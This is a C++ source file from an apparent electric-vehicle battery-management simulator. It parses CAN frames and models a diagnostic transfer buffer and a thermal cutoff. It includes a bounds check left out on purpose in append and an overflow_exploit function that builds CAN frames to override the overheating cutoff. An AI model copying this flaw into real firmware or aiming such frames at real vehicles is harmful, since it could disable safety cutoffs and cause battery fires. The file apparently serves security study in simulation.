#include "evsim/bms.hpp"

#include <algorithm>
#include <cmath>

#include "evsim/attacker.hpp"
#include "evsim/error.hpp"

namespace evsim {

CanFrame CanFrame::make(std::uint16_t id, std::span<const std::uint8_t> payload) {
  if (id > 0x7FF) throw InputError("CAN id wider than 11 bits");
  if (payload.size() > 8) throw InputError("CAN payload longer than 8 bytes");
  CanFrame frame;
  frame.id = id;
  frame.dlc = static_cast<std::uint8_t>(payload.size());
  std::copy(payload.begin(), payload.end(), frame.data.begin());
  return frame;
}

CanFrame parse_can_frame(std::string_view text) {
  const auto hash = text.find('#');
  if (hash == std::string_view::npos || hash == 0 || hash > 3) {
    throw InputError("CAN frame must look like ID#DATA: " + std::string(text));
  }
  unsigned id = 0;
  for (const char ch : text.substr(0, hash)) {
    const auto digit = from_hex(std::string{'0', ch});
    id = id << 4 | digit[0];
  }
  const auto payload = from_hex(text.substr(hash + 1));
  return CanFrame::make(static_cast<std::uint16_t>(id), payload);
}

std::string to_string(const CanFrame& frame) {
  static constexpr char kDigits[] = "0123456789ABCDEF";
  std::string out{kDigits[(frame.id >> 8) & 0xF], kDigits[(frame.id >> 4) & 0xF],
                  kDigits[frame.id & 0xF], '#'};
  return out + to_hex(frame.payload());
}

BmsState make_bms(double ambient_c) {
  BmsState s;
  s.temp_c = ambient_c;
  s.ambient_c = ambient_c;
  return s;
}

ThermalParams calibrated_thermal_params() {
  constexpr double beta = 0.01;
  constexpr double ambient = 25.0;
  return {beta * (56.47 - ambient) / 51.0, beta, ambient};
}

namespace {

void append(BmsState& s, std::span<const std::uint8_t> bytes) {
  for (const auto b : bytes) {
    if (s.received_len >= s.declared_len) break;
    // No check against kStagingSize: this is the flaw.
    if (s.received_len < kStackFrameSize) s.stack[s.received_len] = b;
    ++s.received_len;
  }
  if (s.received_len >= s.declared_len) s.transfer_open = false;
}

}  // namespace

BmsState bms_feed(BmsState s, const CanFrame& frame) {
  if (frame.id != kBmsDiagnosticId || frame.dlc == 0) return s;
  const auto payload = frame.payload();
  const std::uint8_t pci = payload[0];

  if (pci == kFirstFrame) {
    if (payload.size() < 2) return s;
    s.declared_len = payload[1];
    s.received_len = 0;
    s.transfer_open = s.declared_len > 0;
    s.next_sequence = kFirstConsecutive;
    append(s, payload.subspan(2));
    return s;
  }

  if (pci >= kFirstConsecutive && pci <= kLastConsecutive) {
    if (!s.transfer_open) return s;
    if (pci != s.next_sequence) {
      s.transfer_open = false;  // sequence error aborts the transfer
      return s;
    }
    s.next_sequence = static_cast<std::uint8_t>(pci == kLastConsecutive ? 0x20 : pci + 1);
    append(s, payload.subspan(1));
  }
  return s;
}

BmsState bms_feed(BmsState s, std::span<const CanFrame> frames) {
  for (const auto& f : frames) s = bms_feed(std::move(s), f);
  return s;
}

BmsState bms_tick(BmsState s, double charging_current, double dt, const ThermalParams& p) {
  if (!(dt > 0.0)) throw InputError("thermal step must be > 0");
  const double heating = s.mosfet_on ? p.alpha * charging_current : 0.0;
  s.temp_c += (heating - p.beta * (s.temp_c - p.ambient_c)) * dt;
  if (s.compromised()) {
    s.mosfet_on = true;
  } else if (s.temp_c > kBmsCutoffC) {
    s.mosfet_on = false;
  }
  return s;
}

std::vector<CanFrame> overflow_exploit(std::uint8_t override_value) {
  const std::uint8_t ff[] = {kFirstFrame, 16};
  const std::uint8_t cf1[] = {0x21, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41, 0x41};  // offsets 0..6
  const std::uint8_t cf2[] = {0x22, 0x41, override_value, 0, 0, 0, 0, 0};       // offsets 7..13
  const std::uint8_t cf3[] = {0x23, 0, 0};                                      // offsets 14..15
  return {CanFrame::make(kBmsDiagnosticId, ff), CanFrame::make(kBmsDiagnosticId, cf1),
          CanFrame::make(kBmsDiagnosticId, cf2), CanFrame::make(kBmsDiagnosticId, cf3)};
}

}  // namespace evsim
